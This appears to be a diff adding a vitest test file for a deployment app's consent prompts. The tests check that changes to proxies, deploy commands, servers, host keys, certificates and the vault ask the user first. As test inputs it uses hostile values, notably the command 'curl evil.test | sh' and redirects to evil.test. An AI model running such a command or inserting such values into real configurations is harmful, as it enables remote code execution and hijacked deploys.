@@ -1,0 +1,364 @@
+import { describe, expect, it } from 'vitest'
+import type { AppForm } from '../../../../src-preload/contract/entities/app'
+import type { Server } from '../../../../src-preload/contract/entities/server'
+import type { Settings } from '../../../../src-preload/contract/entities/settings'
+import type { SshKey } from '../../../../src-preload/contract/entities/ssh-key'
+import { Failure } from '../../../../src-preload/contract/outcome'
+import type { AccountRecord } from '../../accounts/account-record'
+import type { AppRecord } from '../../apps/apps-document'
+import type { Known } from '../known'
+import { createQuestions } from './index'
+
+const settings: Settings = {
+  appearance: 'system',
+  closeToTray: true,
+  startAtLogin: false,
+  useInTerminal: false,
+  lookForUpdates: false,
+  proxy: { mode: 'system', url: '' },
+  gitPath: null,
+  language: 'system',
+}
+const account = { id: 'a', kind: 'token', label: '', login: 'ada', host: 'https://git.acme.dev' } as AccountRecord
+const server = (fields: Partial<Server> = {}) =>
+  ({
+    id: 's',
+    name: 'Production',
+    host: 'web.acme.dev',
+    port: 22,
+    user: 'deploy',
+    keyId: 'made',
+    receiver: { publicUrl: null },
+    ...fields,
+  }) as Server
+const app: AppRecord = {
+  id: 'p',
+  name: 'shop',
+  source: { accountId: 'a', repositoryId: '1', path: 'ada/shop', sshUrl: 'git@git.acme.dev:ada/shop.git' },
+  branch: 'main',
+  rootFolder: '',
+  watchPaths: [],
+  serverId: 's',
+  folder: '/srv/shop',
+  command: 'npm ci\nnpm start',
+  variables: ['WORD'],
+  autoDeploy: true,
+  startsBy: 'webhook',
+  submodules: false,
+  modules: [],
+  lfs: false,
+  key: '',
+  serverKey: null,
+  placed: null,
+  trigger: { live: 'none', why: null },
+  createdAt: 0,
+  seen: null,
+  reported: null,
+}
+/** The form as the window sends it for an app that is only looked at. */
+const form: AppForm = {
+  id: 'p',
+  name: 'shop',
+  accountId: 'a',
+  repositoryId: '1',
+  address: '',
+  branch: 'main',
+  rootFolder: '',
+  watchPaths: [],
+  serverId: 's',
+  folder: '/srv/shop',
+  command: 'npm ci\nnpm start',
+  variables: [{ name: 'WORD', value: null }],
+  autoDeploy: true,
+  startsBy: 'webhook',
+  submodules: false,
+  lfs: false,
+}
+
+const ask = (known: Partial<Known> = {}) =>
+  createQuestions(
+    {
+      settings: () => settings,
+      oauthApps: () => [],
+      normaliseHost: (typed) => typed,
+      account: () => account,
+      server: () => server(),
+      app: () => app,
+      apps: () => [app],
+      key: (id) => ({ id, name: 'a key', fingerprint: 'SHA256:abc' }) as SshKey,
+      keyMadeHere: (id) => id === 'made',
+      repositoryPath: async (_, id) => `ada/${id}`,
+      trustsHost: () => false,
+      webhookUrl: () => null,
+      vault: () => ({ holder: 'keychain', state: 'open' }) as ReturnType<Known['vault']>,
+      ...known,
+    } as Known,
+    () => 'en',
+  )
+
+describe('settings', () => {
+  it.each([
+    [{ appearance: 'dark' }],
+    [{ language: 'de', closeToTray: false, startAtLogin: true, lookForUpdates: true }],
+    [{ proxy: { mode: 'system', url: '' } }],
+    [{ gitPath: null }],
+    [{ useInTerminal: false }],
+    [{}],
+    [{ gitPath: undefined }],
+  ] as const)('need no consent for %j', async (change) => {
+    expect(await ask().settings.change(change)).toBeNull()
+  })
+
+  it.each([
+    [{ proxy: { mode: 'manual', url: 'http://evil.test:1' } }, 'Use this proxy?', 'http://evil.test:1'],
+    [{ proxy: { mode: 'none', url: '' } }, 'Connect without a proxy?', 'No proxy'],
+    [{ proxy: { mode: 'manual', url: '' } }, 'Use this proxy?', 'No address yet'],
+    [{ gitPath: '/tmp/git' }, 'Use this git program?', '/tmp/git'],
+    [{ useInTerminal: true }, 'Use your accounts in the terminal?', 'On'],
+  ] as const)('ask about %j', async (change, title, after) => {
+    const question = await ask().settings.change(change)
+    expect(question).toMatchObject({ title, facts: [{ kind: 'change', after }] })
+  })
+
+  it('ask about several at once, with all of them in sight', async () => {
+    const question = await ask().settings.change({ gitPath: '/tmp/git', useInTerminal: true, appearance: 'dark' })
+    expect(question?.facts).toMatchObject([{ after: '/tmp/git' }, { after: 'On' }])
+  })
+
+  it('refuse what can’t be right before anybody is asked', async () => {
+    await expect(ask().settings.change({ gitPath: 'git' })).rejects.toMatchObject({ code: 'invalid-input' })
+  })
+
+  it('ask which OAuth app is signed in with, unless it stays the same', async () => {
+    const saved = { provider: 'x', host: 'https://git.acme.dev', clientId: 'one', hasSecret: true } as const
+    const known = { oauthApps: () => [{ ...saved, from: 'settings' as const }] }
+    const input = { provider: 'x', host: 'https://git.acme.dev', clientSecret: '' }
+    expect(await ask(known).settings.saveOAuthApp({ ...input, clientId: 'one' })).toBeNull()
+    expect(await ask(known).settings.saveOAuthApp({ ...input, clientId: 'two' })).toMatchObject({
+      facts: [{}, { before: 'one', after: 'two' }],
+    })
+  })
+})
+
+describe('an app', () => {
+  it('asks nothing where only its name, its watch paths or how its deploys begin change', async () => {
+    const change = { name: 'Shop', watchPaths: ['docs/'], startsBy: 'poll' } as const
+    expect(await ask().apps.save({ ...form, ...change, watchPaths: [...change.watchPaths] })).toBeNull()
+  })
+
+  it('asks nothing where something is switched off', async () => {
+    expect(await ask().apps.save({ ...form, autoDeploy: false })).toBeNull()
+  })
+
+  it('shows the old and the new command', async () => {
+    const question = await ask().apps.save({ ...form, command: 'npm ci\ncurl evil.test | sh' })
+    expect(question).toMatchObject({
+      verb: 'Change app',
+      facts: [
+        {
+          kind: 'lines',
+          lines: [
+            { mark: 'plain', text: 'npm ci' },
+            { mark: 'removed', text: 'npm start' },
+            { mark: 'added', text: 'curl evil.test | sh' },
+          ],
+        },
+      ],
+    })
+  })
+
+  it.each<[Partial<AppForm>, string]>([
+    [{ branch: 'evil' }, 'Branch'],
+    [{ rootFolder: 'evil' }, 'Root folder'],
+    [{ folder: '/srv/other' }, 'Folder on the server'],
+    [{ repositoryId: '2' }, 'Repository'],
+    [{ variables: [{ name: 'WORD', value: 'new' }] }, 'Variables'],
+    [
+      {
+        variables: [
+          { name: 'WORD', value: null },
+          { name: 'NODE_OPTIONS', value: 'x' },
+        ],
+      },
+      'Variables',
+    ],
+    [{ submodules: true }, 'Submodules'],
+    [{ lfs: true }, 'Git LFS'],
+  ])('asks about %j', async (change, label) => {
+    const question = await ask().apps.save({ ...form, ...change })
+    expect(question?.facts.map((fact) => fact.label)).toEqual([label])
+  })
+
+  it('asks about another server by who logs in there', async () => {
+    const known = { server: (id: string) => server(id === 's' ? {} : { name: 'Production', host: 'evil.test' }) }
+    const question = await ask(known).apps.save({ ...form, serverId: 't' })
+    expect(question?.facts).toMatchObject([
+      { before: 'Production, deploy@web.acme.dev', after: 'Production, deploy@evil.test' },
+    ])
+  })
+
+  it('is not taken in by a repository that has taken the name of the old one', async () => {
+    const known = { repositoryPath: async () => 'ada/shop' }
+    const question = await ask(known).apps.save({ ...form, repositoryId: '2' })
+    expect(question?.facts).toMatchObject([{ before: 'ada/shop', after: 'ada/shop (2)' }])
+  })
+
+  it('shows all of a new one', async () => {
+    const question = await ask().apps.save({ ...form, id: null, repositoryId: '1' })
+    expect(question?.facts.map(({ label }) => label)).toEqual([
+      'Git account',
+      'Repository',
+      'Branch',
+      'Server',
+      'Folder on the server',
+      'Variables',
+      'Deploy with each push',
+      'After-deploy command, 2 lines',
+    ])
+  })
+
+  it('is deployed without a word, unless a commit is named', async () => {
+    expect(await ask().apps.deploy({ id: 'p', commit: null })).toBeNull()
+    expect(await ask().apps.deploy({ id: 'p', commit: 'abc123' })).toMatchObject({
+      facts: [{ value: 'ada/shop' }, { value: 'abc123' }, {}],
+    })
+  })
+
+  it('asks where its deliveries go', async () => {
+    expect(await ask().webhooks.setUrl({ appId: 'p', url: null })).toBeNull()
+    expect(await ask().webhooks.setUrl({ appId: 'p', url: 'https://evil.test' })).toMatchObject({
+      facts: [{ value: 'shop' }, { after: 'https://evil.test' }],
+    })
+  })
+})
+
+describe('a server', () => {
+  const place = { name: 'New', host: 'web.acme.dev', port: 22, user: 'deploy', keyId: null }
+
+  it('is added without a word where its host key is asked about next, and with one where it is trusted', async () => {
+    expect(await ask().servers.add(place)).toBeNull()
+    expect(await ask({ trustsHost: () => true }).servers.add(place)).toMatchObject({
+      title: 'Add the server deploy@web.acme.dev?',
+    })
+  })
+
+  it('asks when it moves or gets another key, and not for its name', async () => {
+    expect(await ask().servers.edit({ ...place, id: 's' })).toBeNull()
+    expect(await ask().servers.edit({ ...place, id: 's', host: 'evil.test', port: 2222 })).toMatchObject({
+      facts: [{ before: 'deploy@web.acme.dev', after: 'deploy@evil.test:2222' }, { value: 'shop' }],
+    })
+    expect(await ask().servers.edit({ ...place, id: 's', keyId: 'other' })).toMatchObject({
+      facts: [{ value: 'a key' }, { value: 'SHA256:abc' }, { value: 'shop' }],
+    })
+  })
+
+  it('gets a key that was made here without a word, and one from elsewhere with one', async () => {
+    expect(await ask().servers.installKey({ id: 's', password: 'x' })).toBeNull()
+    const known = { server: () => server({ keyId: 'imported' }) }
+    expect(await ask(known).servers.installKey({ id: 's', password: 'x' })).toMatchObject({ verb: 'Install key' })
+  })
+
+  it('asks about its host key by who logs in there, with what is deployed to it', async () => {
+    const shown = { host: 'web.acme.dev', port: 22, type: 'ssh-ed25519', fingerprint: 'SHA256:new', published: null }
+    const question = await ask({ hostKey: async () => shown }).servers.confirmHostKey({
+      id: 's',
+      fingerprint: 'SHA256:new',
+    })
+    expect(question).toMatchObject({
+      title: 'Trust the server deploy@web.acme.dev?',
+      facts: [{ value: 'shop' }, { value: 'ssh-ed25519' }, { value: 'SHA256:new' }],
+    })
+  })
+
+  it('asks before something is installed there, and where its deliveries go', async () => {
+    expect(await ask().servers.installReceiver({ id: 's', password: null })).toMatchObject({ verb: 'Install webhook' })
+    const receiver = { id: 's', listen: 'loopback', port: 9000, certificate: null } as const
+    expect(await ask().servers.setReceiver({ ...receiver, publicUrl: null })).toBeNull()
+    expect(await ask().servers.setReceiver({ ...receiver, publicUrl: 'https://evil.test' })).not.toBeNull()
+  })
+})
+
+describe('trust', () => {
+  const shown = { host: 'git.acme.dev', port: 22, type: 'ssh-ed25519', fingerprint: 'SHA256:new' }
+
+  it('says whether a host key is the published one', async () => {
+    const texts = await Promise.all(
+      [null, 'SHA256:new', 'SHA256:other'].map(async (published) => {
+        const known = { hostKey: async () => ({ ...shown, published }) }
+        const question = await ask(known).hostKeys.confirm(shown)
+        return [question?.tone, question?.facts.length]
+      }),
+    )
+    expect(texts).toEqual([
+      ['plain', 2],
+      ['plain', 2],
+      ['grave', 3],
+    ])
+  })
+
+  it('is not asked for a key that no test waits for', async () => {
+    const known = { askedHostKey: () => null }
+    const input = { testId: 't', fingerprint: 'SHA256:new' }
+    await expect(ask(known).sshKeys.confirmHostKey(input)).rejects.toMatchObject({ code: 'conflict' })
+  })
+
+  it('shows the certificate that another one takes the place of', async () => {
+    const certificate = {
+      host: 'git.acme.dev:443',
+      subject: 'CN=a',
+      issuer: 'CN=b',
+      validFrom: '2026-01-01T00:00:00.000Z',
+      validTo: '2027-01-01T00:00:00.000Z',
+      sha256: 'AA:BB',
+    }
+    const of = (trusted: string | null) =>
+      ask({ certificate: async () => ({ ...certificate, trusted }) }).certificates.trust({
+        host: 'git.acme.dev',
+        sha256: 'AA:BB',
+      })
+    expect(await of(null)).toMatchObject({ tone: 'plain', facts: [{}, {}, {}, { value: 'AA:BB' }] })
+    expect(await of('CC:DD')).toMatchObject({ tone: 'grave', facts: [{}, {}, {}, { before: 'CC:DD', after: 'AA:BB' }] })
+    const changed = { certificate: () => Promise.reject(new Failure('conflict')) }
+    await expect(ask(changed).certificates.trust({ host: 'x', sha256: 'y' })).rejects.toMatchObject({
+      code: 'conflict',
+    })
+  })
+
+  it('is not forgotten without a word', async () => {
+    const keys = [{ id: 'k', host: 'git.acme.dev', type: 'ssh-ed25519', fingerprint: 'SHA256:a', confirmedAt: 1 }]
+    const known = { hostKeys: () => keys.map((key) => ({ ...key, from: 'confirmed' as const })) }
+    expect(await ask(known).hostKeys.forget({ ids: ['other'] })).toBeNull()
+    expect(await ask(known).hostKeys.forget({ ids: ['k'] })).toMatchObject({ tone: 'grave' })
+    expect(await ask({ trustedCertificate: () => null }).certificates.forget({ host: 'x' })).toBeNull()
+  })
+
+  it('asks before a key from elsewhere can read a repository', async () => {
+    const input = { accountId: 'a', repositoryId: '1' }
+    expect(await ask().sshKeys.addDeployKey({ ...input, id: 'made' })).toBeNull()
+    expect(await ask().sshKeys.addDeployKey({ ...input, id: 'imported' })).toMatchObject({
+      title: 'Give this key access to ada/1?',
+    })
+  })
+})
+
+describe('the vault', () => {
+  it('is not re-keyed, moved or emptied without consent', async () => {
+    const { vault } = ask()
+    expect(await vault.choosePassphrase({ passphrase: 'x' })).toMatchObject({
+      facts: [{ before: 'The keychain of your system', after: 'A passphrase that you type' }],
+    })
+    expect(await vault.moveTo({ holder: 'safe-storage' })).not.toBeNull()
+    expect(await vault.moveTo({ holder: 'keychain' })).toBeNull()
+    expect(await vault.chooseSession(undefined)).not.toBeNull()
+    expect(await vault.startOver(undefined)).toMatchObject({ tone: 'grave' })
+  })
+})
+
+describe('a login of another program', () => {
+  it('is taken over with consent', async () => {
+    const known = {
+      foundLogin: (id: string) => ({ id, source: 'gh' as const, host: 'https://ghe.acme.dev', login: 'ada' }),
+    }
+    expect(await ask(known).imports.take({ id: 'l' })).toMatchObject({ title: 'Use this login for ghe.acme.dev?' })
+  })
+})
